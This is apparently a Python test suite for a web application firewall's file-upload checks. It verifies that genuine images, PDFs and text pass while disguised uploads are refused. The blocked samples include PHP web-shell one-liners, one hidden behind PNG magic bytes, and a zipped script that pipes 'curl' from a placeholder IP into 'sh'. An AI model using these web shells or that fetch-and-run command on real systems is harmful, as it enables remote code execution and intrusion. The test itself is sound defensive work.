"""Uploads judged by content (libmagic, backed by the built-in sniffer),
extension and declared type together: real images, PDFs and text files
(also text holding SQL or shell) pass the WAF; executables, archives,
server-side scripts and active markup are refused whatever their name and
declared type say."""
import base64
import gzip
import io
import zipfile

import pxtest
from pxtest import request
from waflib import admin_api

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
PDF = (b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
       b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 40
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + \
    b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 40


def zipped():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr("run.sh", "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n")
    return b.getvalue()


def upload(name, ctype, data):
    boundary = "----pxwafupload7d0c"
    body = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
            "Content-Type: %s\r\n\r\n" % (boundary, name, ctype)).encode() + data + \
        ("\r\n--%s--\r\n" % boundary).encode()
    return request("POST", "/api/v1/files", body=body,
                   headers={"Content-Type": "multipart/form-data; boundary=" + boundary})


def blocked(r):
    return r.status == 403 and r.json().get("error_code", "").startswith("SECURITY_")


PASS = [
    ("pixel.png", "image/png", PNG),
    ("manual.pdf", "application/pdf", PDF),
    ("notes.txt", "text/plain", b"standup: SELECT * FROM users WHERE id = 1; rm -rf build/\n"),
    ("deploy-notes.txt", "text/plain", b"#!/bin/sh\nset -e\nmake && ./deploy.sh --prod\n"),
    ("server.log", "text/plain", b"2024-06-01 12:00:01 ERROR GET /etc/passwd 404 from 10.0.0.7\n"),
]

BLOCK = [
    ("notes.txt", "text/plain", b"<?php system($_GET['cmd']); ?>\n", "PHP in a text file"),
    ("readme.txt", "text/plain",
     b"<!DOCTYPE html>\n<html><body><script>fetch('/api')</script></body></html>\n",
     "HTML page as text"),
    ("logo.txt", "text/plain",
     b"<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>\n",
     "SVG as text"),
    ("report.pdf", "application/pdf", PE, "PE executable as PDF"),
    ("photo.png", "image/png", ELF, "ELF executable as PNG"),
    ("notes.txt", "text/plain", gzip.compress(b"hello " * 50), "gzip as text"),
    ("holiday.jpg", "image/jpeg", zipped(), "zip archive as JPEG"),
    ("scan.png", "image/png", PNG[:8] + b"<?php eval($_POST[1]); ?>", "PHP behind PNG magic"),
]


def test_good_uploads_pass_the_waf():
    for name, ctype, data in PASS:
        r = upload(name, ctype, data)
        assert not blocked(r), (name, r)


def rules_of(cid):
    events = admin_api("GET", "/api/v1/admin/waf/events?limit=50").json()["events"]
    ev = next(e for e in events if e["correlation_id"] == cid)
    return ev["fields"]["rules"]


def test_disguised_uploads_refused():
    for name, ctype, data, why in BLOCK:
        r = upload(name, ctype, data)
        assert blocked(r), (why, r)
        assert r.json()["error_code"] in ("SECURITY_REQUEST_BLOCKED", "SECURITY_UPLOAD_REJECTED"), r


def test_text_that_is_code_refused_by_content():
    # name, declared type and the built-in sniffer all say "text": only the
    # content type libmagic names (PHP, HTML, SVG) refuses these
    for name, ctype, data, why in BLOCK[:3]:
        r = upload(name, ctype, data)
        assert blocked(r), (why, r)
        assert 210101 in rules_of(r.json()["correlation_id"]), why


if __name__ == "__main__":
    pxtest.run(globals())
